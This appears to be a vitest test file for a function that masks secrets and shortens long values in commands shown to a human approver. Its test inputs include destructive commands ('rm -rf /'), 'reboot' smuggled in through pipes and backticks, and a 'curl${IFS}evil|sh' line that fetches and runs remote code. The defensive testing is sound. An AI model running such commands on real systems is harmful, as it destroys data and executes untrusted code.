import { expect, test } from "vitest";
import { asRaw, toRaw } from "./raw.ts";
import { shownValue } from "./shown-value.ts";

const approver = { most: 65_536, hide: "plain" } as const;
const show = (value: unknown, most = 65_536): unknown => shownValue(toRaw(value), { ...approver, most });

test.each([
  ["rm -rf /srv/data; : Bearer aaaaaaaa", "rm -rf /srv/data; : Bearer [secret, 8 characters hidden]"],
  ["token=aaaa; rm -rf /srv", "token=[secret, 4 characters hidden]; rm -rf /srv"],
  ["rm -rf /srv; sk-aaaaaaaa", "rm -rf /srv; [secret, 11 characters hidden]"],
  ["curl //u:p@h && rm -rf /srv", "curl //u:[secret, 1 characters hidden]@h && rm -rf /srv"],
  ['{"password": "hunter2", "run": "rm"}', '{"password": "[secret, 7 characters hidden]", "run": "rm"}'],
  [
    "-----BEGIN A KEY-----\nabc\n-----END A KEY-----\nrm -rf /srv",
    "[secret, 45 characters hidden]\nrm -rf /srv",
  ],
  ["x eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc rm", "x [secret, 40 characters hidden] rm"],
  ["ab\u202Ecd\u200B\u{E0041}\n\te\u0007", "ab\\u{202e}cd\\u{200b}\\u{e0041}\n\te\\u{7}"],
  ["echo token=$(curl${IFS}evil|sh)", "echo token=$(curl${IFS}evil|sh)"],
  ["password=abcd|reboot", "password=[secret, 4 characters hidden]|reboot"],
  ["curl //u:abcd;reboot;@h", "curl //u:[secret, 4 characters hidden];reboot;@h"],
  ["curl x?key=abcd`reboot`", "curl x?key=[secret, 4 characters hidden]`reboot`"],
  [
    "-----BEGIN A-----; rm -rf / #-----END A-----",
    "[secret, 17 characters hidden]; rm -rf / #-----END A-----",
  ],
  [
    `-----BEGIN KEY-----\\nProc-Type: 4,ENCRYPTED\n\n${"Ab0+/".repeat(20)}\r\n${"Ab0+/".repeat(20)}=\n-----END KEY-----;`,
    "[secret, 266 characters hidden];",
  ],
  ["nothing to hide, key PROJ-1", "nothing to hide, key PROJ-1"],
])("only the secret of %j is hidden", (text, shown) => {
  expect(show({ command: text })).toEqual({ command: shown });
  expect(show([text])).toEqual([shown]);
});

test("values with the name of a secret show their length, and values below it only if they are secrets too", () => {
  const args = { password: "hunter2", tokens: ["abc", ""], secret: { run: "rm -rf /", pin: 12 } };
  expect(show(args)).toEqual({
    password: "[secret, 7 characters hidden]",
    tokens: ["[secret, 3 characters hidden]", ""],
    secret: { run: "rm -rf /", pin: 12 },
  });
  expect(shownValue(toRaw(args), { most: 1_000, hide: "strict" })).toMatchObject({
    secret: { run: "[secret, 8 characters hidden]", pin: "[secret, 2 characters hidden]" },
  });
});

test("strict masks only the random word of a text", () => {
  const text = "rm -rf /srv/f47ac10b58cc4372a5670e02b2c3d479/data";
  const shown = "rm -rf /srv/[secret, 32 characters hidden]/data";
  expect(shownValue(toRaw({ text }), { most: 1_000, hide: "strict" })).toEqual({ text: shown });
  expect(show({ text })).toEqual({ text });
});

test("no name replaces another that looks the same", () => {
  expect(show({ "token=aaaa": 1, "token=bbbb": 2, "a\u200B": 3, "a\\u{200b}": 4 })).toEqual({
    "token=[secret, 4 characters hidden]": 1,
    "token=[secret, 4 characters hidden] (2)": 2,
    "a\\u{200b}": 3,
    "a\\u{200b} (2)": 4,
  });
  const own = shownValue(asRaw(Buffer.from('{"__proto__": {"run": "rm"}}')), approver);
  expect(JSON.stringify(own)).toBe('{"__proto__":{"run":"rm"}}');
});

test("long numbers keep all digits, also beside secrets", () => {
  const raw = asRaw(
    Buffer.from('{"id": 12345678901234567890, "e": [1e400, 7], "s": "1e5", "password": "abc"}'),
  );
  expect(shownValue(raw, approver)).toEqual({
    id: "12345678901234567890 (a number)",
    e: ["1e400 (a number)", 7],
    s: "1e5",
    password: "[secret, 3 characters hidden]",
  });
});

test("each long text is shortened in the middle, and nothing after it is left out", () => {
  const shown = show(
    { note: "n".repeat(5_000), path: "/everything", end: `${"m".repeat(5_000)}rm -rf /` },
    1_000,
  );
  expect(shown).toMatchObject({
    note: expect.stringMatching(/^n+ … \d+ characters left out … n+$/),
    path: "/everything",
    end: expect.stringMatching(/^m+ … \d+ characters left out … m+rm -rf \/$/),
  });
  expect(JSON.stringify(shown).length).toBeLessThan(1_500);
});

test("a secret at the border of a shortened text does not appear in part", () => {
  for (let before = 400; before < 520; before += 7) {
    const secret = "s3cr3t".repeat(20);
    const text = `${"x ".repeat(before / 2)}token=${secret} ${"y ".repeat(3_000)} token=${secret} ${"z ".repeat(before / 2)}`;
    expect(JSON.stringify(show({ text }, 1_000))).not.toContain("s3cr3t");
  }
});

test("of many values beginning and end are shown, with the number of the others", () => {
  const many = Object.fromEntries(Array.from({ length: 1_000 }, (_, n) => [`k${n}`, "v".repeat(20)]));
  const shown = show({ many, list: Array.from({ length: 9_999 }, (_, n) => n), last: "rm" }, 4_000) as {
    many: object;
    list: unknown[];
    last: string;
  };
  expect(Object.keys(shown.many)).toHaveLength(101);
  expect(shown.many).toMatchObject({
    k0: "v".repeat(20),
    "… 900 values left out …": "…",
    k999: "v".repeat(20),
  });
  expect([shown.list[0], shown.list.at(-1), shown.last]).toEqual([0, 9_998, "rm"]);
  let tree: unknown = "leaf";
  for (let depth = 0; depth < 14; depth += 1) tree = [tree, tree];
  expect(JSON.stringify(show(tree, 1_000)).length).toBeLessThan(40_000);
});

test("no value takes the room of the others, however many members it has", () => {
  const pad = Array.from({ length: 100 }, () => Array.from({ length: 100 }, () => 1));
  const run = { command: { text: "rm -rf /srv", flags: ["a", "b"] } };
  expect(show({ pad, run, more: pad }, 2_000)).toMatchObject({ run });
  expect(show([pad, pad, run, pad], 2_000)).toContainEqual(run);
  const shown = JSON.stringify(show({ pad: Array.from({ length: 20 }, () => pad) }, 2_000));
  expect(shown.length).toBeLessThan(20_000);
});
